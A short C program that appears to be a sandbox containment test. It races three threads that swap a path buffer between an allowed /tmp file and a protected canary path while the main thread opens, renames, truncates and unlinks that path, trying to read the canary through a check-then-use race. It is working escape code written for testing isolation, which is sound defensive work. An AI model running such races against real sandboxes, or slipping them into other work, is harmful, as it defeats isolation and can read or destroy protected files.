// Threads rewrite a path while the kernel reads it: what was checked must be what is used.
#include "escape.h"
#include <pthread.h>

static char path[256] __attribute__((aligned(64)));
static char good[256], bad[256];
static volatile int stop;

static void *flip(void *unused) {
    while (!stop) {
        memcpy(path, bad, sizeof path);
        asm volatile("" ::: "memory"); // or the compiler leaves the first one out
        memcpy(path, good, sizeof path);
        asm volatile("" ::: "memory");
    }
    return 0;
}

int main(int argc, char **argv) {
    begin(argc, argv);
    snprintf(bad, sizeof bad, "%s", canary);
    snprintf(good, sizeof good, "/tmp/%0*d", (int)strlen(canary) - 5, 0); // of the same length
    close(open(good, O_CREAT | O_WRONLY, 0666));
    pthread_t threads[3];
    for (int i = 0; i < 3; i++)
        pthread_create(&threads[i], 0, flip, 0);
    for (int i = 0; i < 4000; i++) {
        int fd = open(path, i % 2 ? O_RDWR : O_RDONLY);
        if (fd >= 0) {
            if (reads_canary(fd))
                escaped("the race was won at try %d", i);
            close(fd);
        }
        symlink(path, "/tmp/race");
        rename("/tmp/race", path);
        if (i % 64 == 0)
            truncate(path, 0);
        unlink(path);
        if ((fd = open(good, O_CREAT | O_WRONLY, 0666)) >= 0)
            close(fd);
    }
    stop = 1;
    for (int i = 0; i < 3; i++)
        pthread_join(threads[i], 0);
    contained();
}
